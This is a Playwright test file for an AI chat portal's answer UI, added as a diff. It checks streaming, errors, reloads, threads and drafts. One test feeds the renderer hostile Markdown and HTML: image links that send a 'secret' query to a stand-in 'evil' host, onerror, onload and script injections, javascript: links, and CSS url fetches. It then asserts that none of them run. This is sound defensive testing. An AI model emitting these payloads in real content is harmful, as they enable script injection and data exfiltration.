@@ -1,0 +1,135 @@
+import { expect } from '@playwright/test';
+import { ask, latestAnswer, test } from './support/product.js';
+
+const question = 'How do I connect a PostgreSQL server?';
+const words = (count: number) => Array.from({ length: count }, (_, index) => `word${index}`).join(' ');
+
+test('stop keeps what was written', async ({ portal, model }) => {
+  model.scriptNext({ text: words(400), tokenDelayMs: 20 });
+  const answer = await ask(portal, question);
+  await expect(answer).toContainText('word5');
+  await portal.getByRole('button', { name: 'Stop the answer' }).click();
+  await expect(answer).toHaveAttribute('data-state', 'stopped');
+  await expect(answer).toContainText('word5');
+  const kept = await answer.locator('ck-markdown').textContent();
+  await portal.reload();
+  await expect(latestAnswer(portal)).toHaveAttribute('data-state', 'stopped');
+  expect(await latestAnswer(portal).locator('ck-markdown').textContent()).toBe(kept);
+});
+
+test('a failing model is worded, and asking again works', async ({ portal, model }) => {
+  model.script({ status: 500, errorMessage: 'secret upstream words' });
+  const answer = await ask(portal, question);
+  await expect(answer.getByRole('alert')).toContainText('language model');
+  await expect(portal.getByText('secret upstream words')).toHaveCount(0);
+  model.script({ text: 'Set `DATABASE_URL` [1].' });
+  await answer.getByRole('button', { name: 'Try again' }).click();
+  await expect(latestAnswer(portal)).toHaveAttribute('data-state', 'complete');
+  await expect(portal.locator('ck-message')).toHaveCount(2);
+  await portal.reload();
+  await expect(portal.locator('ck-message')).toHaveCount(2);
+  await expect(latestAnswer(portal)).toContainText('DATABASE_URL');
+});
+
+test('a question that cannot be sent keeps its text and is sent once when there is a network again', async ({
+  portal,
+  context,
+}) => {
+  await context.setOffline(true);
+  await ask(portal, question);
+  await expect(portal.getByText('Not sent.')).toBeVisible();
+  await context.setOffline(false);
+  await portal.getByRole('button', { name: 'Send again' }).click();
+  await expect(latestAnswer(portal)).toHaveAttribute('data-state', 'complete');
+  await expect(portal.locator('ck-message')).toHaveCount(2);
+  await expect(portal.locator('ck-thread-list li')).toHaveCount(1);
+});
+
+test('a reload in the middle of an answer comes back to it', async ({ portal, model }) => {
+  model.scriptNext({ text: `${words(60)} end`, tokenDelayMs: 50 });
+  const answer = await ask(portal, question);
+  await expect(answer).toContainText('word10');
+  await portal.reload();
+  await expect(latestAnswer(portal)).toHaveAttribute('data-state', 'generating');
+  await expect(latestAnswer(portal)).toHaveAttribute('data-state', 'complete');
+  await expect(latestAnswer(portal).locator('ck-markdown')).toHaveText(`${words(60)} end`);
+  expect(model.requests).toHaveLength(1);
+});
+
+test('answers of two threads never mix when one is left while it streams', async ({ portal, model }) => {
+  model.scriptNext({ text: `alpha ${words(80)} omega`, tokenDelayMs: 40 }, { text: 'The second answer.' });
+  await ask(portal, question);
+  await expect(latestAnswer(portal)).toContainText('word3');
+  await portal.getByRole('button', { name: 'New chat' }).click();
+  await ask(portal, 'How do I add a document?');
+  await expect(latestAnswer(portal)).toHaveText(/The second answer\./);
+  await expect(portal.locator('ck-message')).toHaveCount(2);
+  await portal.getByRole('button', { name: question, exact: true }).click();
+  await expect(latestAnswer(portal)).toContainText('omega');
+  await expect(latestAnswer(portal)).not.toContainText('second');
+});
+
+test('two tabs have answers of their own, and each finds the other in the list', async ({ portal, context, model }) => {
+  model.script((request) => {
+    const asked = JSON.stringify(request.body.messages?.at(-1));
+    return { text: asked.includes('PostgreSQL') ? 'About PostgreSQL.' : 'About documents.', tokenDelayMs: 60 };
+  });
+  const second = await context.newPage();
+  await second.goto('/');
+  await Promise.all([ask(portal, question), ask(second, 'How do I add a document?')]);
+  await expect(latestAnswer(portal)).toContainText('About PostgreSQL.');
+  await expect(latestAnswer(second)).toContainText('About documents.');
+  await portal.bringToFront();
+  await portal.reload();
+  await expect(portal.locator('ck-thread-list li')).toHaveCount(2);
+});
+
+test('hostile Markdown runs nothing and asks nobody', async ({ portal, model, foreignRequests }) => {
+  const evil = 'http://127.0.0.1:9/evil';
+  const text = [
+    `![pixel](${evil}/1.png?q=secret)`,
+    `![reference][r]\n\n[r]: ${evil}/2.png`,
+    `<img src="${evil}/3.png" onerror="window.hacked = true">`,
+    `<iframe src="${evil}/4"></iframe><video poster="${evil}/5"></video><object data="${evil}/6"></object>`,
+    `<style>@import url(${evil}/7.css); p { background: url(${evil}/8.png) }</style>`,
+    `<p style="background: url(${evil}/9.png)">styled</p>`,
+    `<svg onload="window.hacked = true"><image href="${evil}/10.png"/></svg>`,
+    '<script>window.hacked = true</script>',
+    '[click](javascript:window.hacked=true)',
+    `<link rel="stylesheet" href="${evil}/11.css"><base href="${evil}/">`,
+    'The end.',
+  ].join('\n\n');
+  model.scriptNext({ text, tokenDelayMs: 5 });
+  const answer = await ask(portal, question);
+  await expect(answer).toContainText('The end.');
+  await expect(answer).toHaveAttribute('data-state', 'complete');
+  await portal.reload();
+  await expect(latestAnswer(portal)).toContainText('The end.');
+  expect(foreignRequests).toEqual([]);
+  expect(await portal.evaluate(() => 'hacked' in window)).toBe(false);
+  await expect(
+    latestAnswer(portal).locator('img, iframe, video, object, svg:not([class*="lucide"]), style'),
+  ).toHaveCount(0);
+});
+
+test('a thread is renamed in place and deleted after a question', async ({ portal }) => {
+  await ask(portal, question);
+  await expect(latestAnswer(portal)).toHaveAttribute('data-state', 'complete');
+  const list = portal.locator('ck-thread-list');
+  await list.getByRole('button', { name: question, exact: true }).hover();
+  await list.getByRole('button', { name: `Rename ${question}` }).click();
+  await list.getByLabel('Title of the chat').fill('Our database');
+  await portal.keyboard.press('Enter');
+  await portal.reload();
+  await list.getByRole('button', { name: 'Our database', exact: true }).hover();
+  await list.getByRole('button', { name: 'Delete Our database' }).click();
+  await list.getByRole('button', { name: 'Delete', exact: true }).click();
+  await expect(list.getByText('Your chats will be listed here.')).toBeVisible();
+  await expect(portal).toHaveURL(/\/$/);
+});
+
+test('a draft survives a reload', async ({ portal }) => {
+  await portal.getByLabel('Your question').fill('Half a question');
+  await portal.reload();
+  await expect(portal.getByLabel('Your question')).toHaveValue('Half a question');
+});
